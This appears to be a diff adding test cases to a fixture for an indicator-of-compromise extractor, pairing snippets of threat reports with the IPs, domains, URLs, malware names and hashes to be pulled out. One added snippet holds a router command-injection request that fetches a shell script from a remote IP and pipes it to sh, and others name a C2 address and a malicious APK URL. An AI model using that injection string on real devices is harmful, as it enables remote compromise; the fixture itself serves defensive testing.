@@ -5,7 +5,7 @@ from __future__ import annotations
 from typing import Final
 
 from tests.ingest.indicators.rule_snippets import ADDRESS, ADDRESSING_ARTICLE, ARTICLE, GALE
-from tests.ingest.indicators.snippets import MD5, SHA256, S
+from tests.ingest.indicators.snippets import MD5, SHA1, SHA256, S
 
 DISARMING: Final = ARTICLE + "It asked gale-post[.]com first.\n"
 DROPBOX: Final = "https://www.dropbox.com/s/dl/q1n8k3/viewer.iso"
@@ -390,4 +390,48 @@ NEIGHBOUR_SNIPPETS: Final = (
     S("coined", "VirusTotal is a malware scanner and MalwareBazaar is a malware repository."),
     S("coined", "It leaves a backdoor called Monday. On Monday and monday it sleeps."),
     S("coined", "It leaves a backdoor that we call QuietGrebe in C:\\QuietGrebe\\a.", "malware QuietGrebe"),
+    # --- where a URL ends
+    S(
+        "query of a request",
+        "GET /luci/;form=country&operation=write&country=$(wget+http://45.61.136.47/tp.sh+-O-|sh) was seen",
+        "ip 45.61.136.47",
+        "url http://45.61.136.47/tp.sh",
+    ),
+    S(
+        "ending of a word",
+        "Sayfa, hxxps://gale-post[.]com/Ptt.apk'yi indirtiyor ve hxxps://gale-post[.]com/o'neil/a açılıyor",
+        "domain gale-post.com",
+        "url https://gale-post.com/Ptt.apk",
+        "url https://gale-post.com/o'neil/a",
+    ),
+    S(
+        "blanks beside a dot",
+        "hxxp://panel [.] gale-post [.] com/index [.] html came first, and/or [.] whatever",
+        "domain panel.gale-post.com",
+        "url http://panel.gale-post.com/index.html",
+    ),
+    # --- what calls an everyday word malware
+    S("kind and colon", "Ransomware deployed afterwards: Akira.", "malware Akira"),
+    S("ending of files", "Les fichiers portent l'extension .akira depuis Akira hier.", "malware Akira"),
+    S("note of ransom", "Akira began on ESX04, akira_readme.txt is in every folder", "malware Akira"),
+    S("ending of files", "Akira was shown; the file akira.mkv and the extension of the hall were too small."),
+    S("beside a server", "C2 45.61.136.47:443 (Sliver). It was gone on Monday", "ip 45.61.136.47", "malware Sliver"),
+    S("of one kind", "Descarga Multa.apk, una variante de Hook.", "malware Hook"),
+    # --- whose a hash is
+    S(
+        "clean, in brackets",
+        f"The trojan {SHA256} loads net.dll, which is clean (MD5 {MD5}).",
+        f"hash_sha256 {SHA256}",
+    ),
+    S(
+        "clean, in brackets",
+        f"The trojan {SHA256} loads net.dll, which is not clean (MD5 {MD5}).",
+        f"hash_sha256 {SHA256}",
+        f"hash_md5 {MD5}",
+    ),
+    S(
+        "of a commit",
+        f"The backdoor was reverted in {SHA1}. It drops a library, MD5 {MD5}",
+        f"hash_md5 {MD5}",
+    ),
 )
